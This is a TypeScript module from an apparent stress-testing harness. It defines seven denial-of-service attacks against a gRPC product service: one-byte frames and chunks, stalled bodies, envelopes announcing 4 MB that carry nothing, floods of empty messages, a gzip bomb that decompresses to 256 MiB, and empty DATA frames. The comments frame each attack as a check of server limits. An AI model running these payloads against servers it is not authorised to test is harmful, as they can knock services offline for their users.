import { gzipSync } from "node:zlib";
import { type Attack, type AttackOptions, type AttackReport, type AttackTarget, pause, scaled } from "../attack.ts";
import { type Dialect, requestFields, requestHead, streamDialects, unaryDialects, uploadBody } from "../wire/call.ts";
import { data, dataFrames, frame, frameType, headers } from "../wire/http2-frames.ts";
import { envelope, lengthDelimited } from "../wire/protobuf.ts";
import { RawHttp1 } from "../wire/raw-http1.ts";
import { RawHttp2 } from "../wire/raw-http2.ts";

const reflection = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const watchStock = "/product.v1.InventoryService/WatchStock";
const healthWatch = "/grpc.health.v1.Health/Watch";
const checkStock = "/product.v1.InventoryService/CheckStock";
const streamPaths = [watchStock, reflection, healthWatch];

const overHttp1 = streamDialects.filter(({ http }) => http === 1);
const overHttp2 = streamDialects.filter(({ http }) => http === 2);

function text(codec: Dialect["codec"], size: number): Buffer {
  // The longest text that these methods' fields can have: it is decoded before validation rejects its length.
  return codec === "proto"
    ? lengthDelimited(2, Buffer.alloc(size, "a"))
    : Buffer.from(`{"afterPosition":"${"a".repeat(size)}"}`);
}

/** A stream message in DATA frames of one byte each. */
async function onePieceFrames(
  { urls, token }: AttackTarget,
  { signal, scale, random }: AttackOptions,
): Promise<AttackReport> {
  const bytes = scaled(240_000, scale, 60_000);
  const used: string[] = [];
  for (const path of streamPaths) {
    const dialect = overHttp2[Math.floor(random() * overHttp2.length)] as Dialect;
    if (signal.aborted) break;
    const connection = new RawHttp2(urls.product);
    const message = envelope(text(dialect.codec, bytes));
    await connection.send(headers(1, requestFields(dialect, { path, token })));
    for (let at = 0; at < message.length && !signal.aborted && !connection.closed; at += 4_000) {
      await connection.send(
        dataFrames(1, message.subarray(at, at + 4_000), { end: at + 4_000 >= message.length, pieceBytes: 1 }),
      );
    }
    await connection.roundTrip(15_000);
    connection.close();
    used.push(`${path.split("/").pop()} ${dialect.name}`);
  }
  return { findings: [], note: `${bytes} frames each: ${used.join(", ")}` };
}

/** The same in HTTP/1.1 chunks. */
async function oneByteChunks(
  { urls, token }: AttackTarget,
  { signal, scale, random }: AttackOptions,
): Promise<AttackReport> {
  const bytes = scaled(240_000, scale, 60_000);
  for (const path of streamPaths) {
    const dialect = overHttp1[Math.floor(random() * overHttp1.length)] as Dialect;
    if (signal.aborted) break;
    const connection = new RawHttp1(urls.product);
    const message = envelope(text(dialect.codec, bytes));
    await connection.send(`${requestHead(dialect, { path, token })}transfer-encoding: chunked\r\n\r\n`);
    for (let at = 0; at < message.length && !signal.aborted && !connection.closed; at += 4_000) {
      const pieces = [...message.subarray(at, at + 4_000)].map((byte) => Buffer.from([0x31, 13, 10, byte, 13, 10]));
      await connection.send(Buffer.concat(pieces));
    }
    await connection.send("0\r\n\r\n");
    await connection.while(() => connection.bytesRead === 0, 10_000);
    connection.close();
  }
  return { findings: [], note: `${bytes} chunks each` };
}

/** Many unfinished unary bodies in pieces of one byte: a piece must not cost a buffer. */
async function oneByteBodies(
  { urls, token }: AttackTarget,
  { signal, scale, random }: AttackOptions,
): Promise<AttackReport> {
  const connections = scaled(20, scale, 6);
  const bytes = scaled(200_000, scale, 50_000);
  const opened = await Promise.all(
    Array.from({ length: connections }, async () => {
      const dialect = unaryDialects[Math.floor(random() * unaryDialects.length)] as Dialect;
      const call = { path: checkStock, token };
      if (dialect.http === 2) {
        const connection = new RawHttp2(urls.product);
        await connection.send(headers(1, requestFields(dialect, call)));
        const head = dialect.enveloped ? envelope(Buffer.alloc(0), { promised: 4_000_000 }) : Buffer.alloc(0);
        await connection.send(data(1, head, false));
        for (let sent = 0; sent < bytes && !signal.aborted && !connection.closed; sent += 4_000) {
          await connection.send(dataFrames(1, Buffer.alloc(4_000, 0x7a), { end: false, pieceBytes: 1 }));
        }
        return connection;
      }
      const connection = new RawHttp1(urls.product);
      await connection.send(`${requestHead(dialect, call)}transfer-encoding: chunked\r\n\r\n`);
      for (let sent = 0; sent < bytes && !signal.aborted && !connection.closed; sent += 4_000) {
        await connection.send(Buffer.from("1\r\nz\r\n".repeat(4_000)));
      }
      return connection;
    }),
  );
  await pause(1_000, signal);
  for (const each of opened) each.close();
  return { findings: [], note: `${connections} × ${bytes} pieces` };
}

/** Envelopes that announce 4 MB and contain nothing. */
async function promisedLengths(
  { urls, token }: AttackTarget,
  { signal, scale, random }: AttackOptions,
): Promise<AttackReport> {
  const [connections, streams] = [scaled(3, scale), 330];
  const dialects = [...overHttp2, ...unaryDialects.filter(({ http, enveloped }) => http === 2 && enveloped)];
  const paths = [...streamPaths, checkStock];
  const opened = Array.from({ length: connections }, () => new RawHttp2(urls.product));
  for (const connection of opened) {
    for (let index = 0; index < streams && !signal.aborted; index++) {
      const dialect = dialects[Math.floor(random() * dialects.length)] as Dialect;
      const path = paths[index % paths.length] as string;
      const promise = envelope(Buffer.alloc(0), { promised: 4 * 1024 * 1024 - 1 });
      await connection.send(
        Buffer.concat([
          headers(1 + 2 * index, requestFields(dialect, { path, token })),
          data(1 + 2 * index, promise, false),
        ]),
      );
    }
  }
  await pause(1_500, signal);
  for (const each of opened) each.close();
  return { findings: [], note: `${connections} × ${streams} promises of 4 MB` };
}

/** Very many buffered empty messages: the loop over them must yield to other calls. */
async function readyMessages(
  { urls, token }: AttackTarget,
  { signal, scale, random }: AttackOptions,
): Promise<AttackReport> {
  const count = scaled(300_800, scale, 60_000);
  let worked = 0;
  for (const path of [reflection, "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", watchStock]) {
    if (signal.aborted) break;
    const dialect = overHttp2[Math.floor(random() * overHttp2.length)] as Dialect;
    const connection = new RawHttp2(urls.product);
    await connection.send(headers(1, requestFields(dialect, { path, token })));
    const one = envelope(Buffer.from(dialect.codec === "json" ? "{}" : ""));
    await uploadBody(connection, Buffer.alloc(count * one.length, one), { stream: 1, maxMs: 10_000 });
    await connection.roundTrip(15_000);
    connection.close();
    worked++;
  }
  return { findings: [], note: `${worked} × ${count} empty messages` };
}

/** A small gzip body that decompresses to a gigabyte: it must be refused at the message size limit. */
async function gzipRatio(
  { urls, token }: AttackTarget,
  { signal, scale, random, step }: AttackOptions,
): Promise<AttackReport> {
  const packed = gzipSync(Buffer.alloc(256 * 1024 * 1024), { level: 9 });
  const dialects = [...overHttp2, ...unaryDialects.filter(({ http }) => http === 2)];
  const count = scaled(12, scale, 2);
  for (let done = 0; done < count && !signal.aborted; done++) {
    const dialect = dialects[Math.floor(random() * dialects.length)] as Dialect;
    const path = overHttp2.includes(dialect) ? watchStock : checkStock;
    await step(`${path.split("/").pop()} ${dialect.name}`, 4 * 1024 * 1024, async () => {
      const connection = new RawHttp2(urls.product);
      await connection.send(
        headers(1, requestFields(dialect, { path, token, more: [[dialect.encodingHeader, "gzip"]] })),
      );
      await uploadBody(connection, dialect.enveloped ? envelope(packed, { flags: 1 }) : packed, {
        stream: 1,
        maxMs: 10_000,
      });
      await connection.while(() => connection.ended === 0, 10_000);
      connection.close();
    });
  }
  return { findings: [], note: `${count} × ${Math.round(packed.length / 1024)} KiB that are 256 MiB` };
}

/** Frames without content, which flow control does not limit. */
async function emptyPieces({ urls, token }: AttackTarget, { signal, scale }: AttackOptions): Promise<AttackReport> {
  const total = scaled(400_000, scale, 50_000);
  const piece = Buffer.alloc(9 * 2_000, frame({ type: frameType.data, stream: 1 }));
  for (const dialect of overHttp2) {
    if (signal.aborted) break;
    const connection = new RawHttp2(urls.product);
    await connection.send(headers(1, requestFields(dialect, { path: watchStock, token })));
    for (let sent = 0; sent < total / overHttp2.length && !signal.aborted && !connection.closed; sent += 2_000) {
      await connection.send(piece);
    }
    await connection.roundTrip(5_000);
    connection.close();
  }
  return { findings: [], note: `${total} empty DATA frames` };
}

export const streamBombs: readonly Attack[] = [
  { name: "stream-bombs/one-byte-frames", timeMaxMs: 60_000, run: onePieceFrames },
  { name: "stream-bombs/one-byte-chunks", timeMaxMs: 60_000, run: oneByteChunks },
  { name: "stream-bombs/one-byte-bodies", timeMaxMs: 60_000, run: oneByteBodies },
  { name: "stream-bombs/promised-lengths", run: promisedLengths },
  { name: "stream-bombs/ready-messages", timeMaxMs: 40_000, run: readyMessages },
  { name: "stream-bombs/gzip-ratio", run: gzipRatio },
  { name: "stream-bombs/empty-pieces", run: emptyPieces },
];
